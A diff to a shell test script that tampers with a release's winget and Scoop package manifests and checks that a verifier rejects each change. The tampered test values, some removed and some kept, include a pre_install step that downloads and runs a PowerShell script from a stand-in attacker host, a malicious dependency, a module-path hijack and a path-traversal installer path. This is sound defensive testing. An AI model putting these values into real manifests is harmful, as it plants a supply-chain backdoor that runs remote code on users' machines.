@@ -268,33 +268,21 @@ EOF
 replay "" "$tmp/facts.log"
 ! grep -q Traceback "$tmp/facts.log" || record "the manifest checks ran to the end" "$(tail -1 "$tmp/facts.log")"
 
-# The verifier holds each manifest to what release/manifests.py writes for these packages,
-# every field: the release as made passes, saying where its manifests download from; each
-# manifest with a field added or changed (the packages and SHA256SUMS as they are) fails,
-# naming the field. A changed manifest is parsed and written again with PyYAML or json.
+# The verifier on the release as made: it passes, saying where its manifests download from,
+# and a manifest changed in the folder (the packages and SHA256SUMS as they are) fails the
+# whole run, naming what changed. Every other field is a row of tests/verify's table.
 sums=$(sha256sum <"$out/SHA256SUMS" | cut -c1-64)
 top=winget/manifests/d/DORVANE/DORVANE/$version
-cat >"$tmp/plant.py" <<'EOF'
-import json, sys, yaml
-path, edit = sys.argv[1:]
-text = open(path).read()
-if edit.startswith("text:"):  # text:OLD=>NEW, the first OLD replaced (\n a new line)
-    old, new = edit[5:].split("=>")
-    text = text.replace(old, new.replace("\\n", "\n"), 1)
-else:  # Python changing doc, the manifest as parsed
-    head, body = ("", text) if path.endswith(".json") else text.split("\n\n", 1)
-    doc = json.loads(body) if path.endswith(".json") else yaml.safe_load(body)
-    exec(edit)
-    text = json.dumps(doc, indent=4) + "\n" if path.endswith(".json") else head + "\n\n" + yaml.safe_dump(doc, sort_keys=False)
-open(path, "w").write(text)
-EOF
-while IFS='|' read -r name file edit want; do
+while IFS='|' read -r name file old new want; do
   copy=$tmp/hostile-$name
   rm -rf "$copy" && cp -a "$out" "$copy"
   status=0
   why=""
-  [ "$name" = genuine ] || /usr/bin/python3 "$tmp/plant.py" "$copy/$file" "$edit" 2>"$tmp/plant.log" ||
-    why="the manifest could not be changed: $(tail -1 "$tmp/plant.log")"
+  if [ "$name" != genuine ]; then
+    # (the first OLD made NEW; \n a new line)
+    text=$(<"$copy/$file") && printf '%s\n' "${text/"$old"/"${new//\\n/$'\n'}"}" >"$copy/$file" && ! cmp -s "$copy/$file" "$out/$file" ||
+      why="the manifest could not be changed"
+  fi
   timeout 60 "$src/scripts/verify-release" "$copy" --sums "$sums" >"$tmp/hostile.log" 2>&1 || status=$?
   [ $status = "$([ "$name" = genuine ] && echo 0 || echo 1)" ] || why=$(why_not "$why" "status $status")
   grep -qE -- "$want" "$tmp/hostile.log" || why=$(why_not "$why" "no line /$want/")
@@ -302,15 +290,9 @@ while IFS='|' read -r name file edit want; do
   record "verify-release on the manifests: $name" "$why"
   [ -z "$why" ] || grep -E '^(FAIL|proved)' "$tmp/hostile.log" | head -5 | cut -c1-300
 done <<EOT
-genuine|||^proved: integrity, .*the winget and Scoop manifests are what release/manifests.py writes for these packages, every field, .*with the download folder "$url"
-scoop-pre-install|scoop/dorvane.json|doc["pre_install"] = ["Invoke-Expression (New-Object Net.WebClient).DownloadString('https://attacker.invalid/payload.ps1')"]|^FAIL scoop/dorvane.json is what release/manifests.py writes for the packages of $version: it holds "pre_install", which release/manifests.py never writes
-scoop-depends|scoop/dorvane.json|doc["depends"] = ["attacker-bucket/evil"]|^FAIL scoop/dorvane.json .*: it holds "depends"
-scoop-env-set|scoop/dorvane.json|doc["env_set"] = {"PSModulePath": "C:/Users/Public/evil"}|^FAIL scoop/dorvane.json .*: it holds "env_set"
-winget-dependencies|$top/DORVANE.DORVANE.installer.yaml|doc["Dependencies"] = {"PackageDependencies": [{"PackageIdentifier": "Attacker.Evil"}]}|^FAIL $top/DORVANE.DORVANE.installer.yaml .*: it holds "Dependencies"
-winget-transform|$top/DORVANE.DORVANE.installer.yaml|doc["Installers"][1]["InstallerSwitches"] = {"Custom": "TRANSFORMS=" + chr(92) * 2 + "attacker" + chr(92) + "share" + chr(92) + "evil.mst"}|^FAIL $top/DORVANE.DORVANE.installer.yaml .*: Installers\[1\] holds "InstallerSwitches"
-winget-nested-path|$top/DORVANE.DORVANE.installer.yaml|doc["Installers"][3]["NestedInstallerFiles"][0]["RelativeFilePath"] = chr(92).join(["..", "..", "Windows", "evil.exe"])|^FAIL $top/DORVANE.DORVANE.installer.yaml .*: Installers\[3\]\.NestedInstallerFiles\[0\]\.RelativeFilePath is
-winget-publisher|$top/DORVANE.DORVANE.locale.en-US.yaml|doc["Publisher"] = "Attacker"|^FAIL $top/DORVANE.DORVANE.locale.en-US.yaml .*: Publisher is "Attacker", not
-winget-key-twice|$top/DORVANE.DORVANE.locale.en-US.yaml|text:Publisher:=>Publisher: Attacker\nPublisher:|^FAIL $top/DORVANE.DORVANE.locale.en-US.yaml .*: it holds the key "Publisher" twice
+genuine||||^proved: integrity, .*the winget and Scoop manifests are what release/manifests.py writes for these packages, every field, .*with the download folder "$url"
+scoop-pre-install|scoop/dorvane.json|{|{\n    "pre_install": ["iex (New-Object Net.WebClient).DownloadString('https://attacker.invalid/p.ps1')"],|^FAIL scoop/dorvane.json is what release/manifests.py writes for the packages of $version: it holds "pre_install", which release/manifests.py never writes
+winget-key-twice|$top/DORVANE.DORVANE.locale.en-US.yaml|Publisher:|Publisher: Attacker\nPublisher:|^FAIL $top/DORVANE.DORVANE.locale.en-US.yaml .*: it holds the key "Publisher" twice
 EOT
 
 finish
